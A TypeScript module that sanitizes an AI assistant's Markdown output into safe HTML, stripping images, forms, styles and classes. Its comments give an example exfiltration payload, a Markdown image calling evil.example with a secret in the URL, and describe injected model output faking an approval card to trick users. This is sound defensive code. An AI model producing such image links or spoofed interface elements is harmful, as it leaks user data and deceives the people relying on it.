// Assistant text → sanitized HTML. marked parses, DOMPurify removes anything executable; the
// result is the only HTML the app ever injects.
import DOMPurify from 'dompurify';
import { marked } from 'marked';

let hooked = false;

function ensureLinkHook(): void {
  if (hooked) return;
  hooked = true;
  // Links from model output open in a new tab and never get a handle on this one.
  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
    if (node.tagName === 'A' && node.hasAttribute('href')) {
      node.setAttribute('target', '_blank');
      node.setAttribute('rel', 'noopener noreferrer nofollow');
    }
  });
}

/**
 * Tags dropped on top of DOMPurify's defaults. Images go too: a remote image in model output is
 * a request the user never made, and the classic way for injected instructions to leak data
 * (`![](https://evil.example/?q=<secret>)`).
 */
const FORBIDDEN_TAGS = ['img', 'picture', 'video', 'audio', 'source', 'style', 'form', 'input', 'button', 'textarea', 'select'];

/**
 * Attributes dropped too. `style` and `class` would let model output dress itself as the app:
 * a fixed overlay over the page, or a fake approval card with the real buttons' classes, which is
 * how an injected instruction could get a person to press Approve on something else.
 */
const FORBIDDEN_ATTRIBUTES = ['style', 'class'];

export function renderMarkdown(text: string): string {
  ensureLinkHook();
  const html = marked.parse(text, { async: false, gfm: true, breaks: false });
  return DOMPurify.sanitize(html, { USE_PROFILES: { html: true }, FORBID_TAGS: FORBIDDEN_TAGS, FORBID_ATTR: FORBIDDEN_ATTRIBUTES });
}
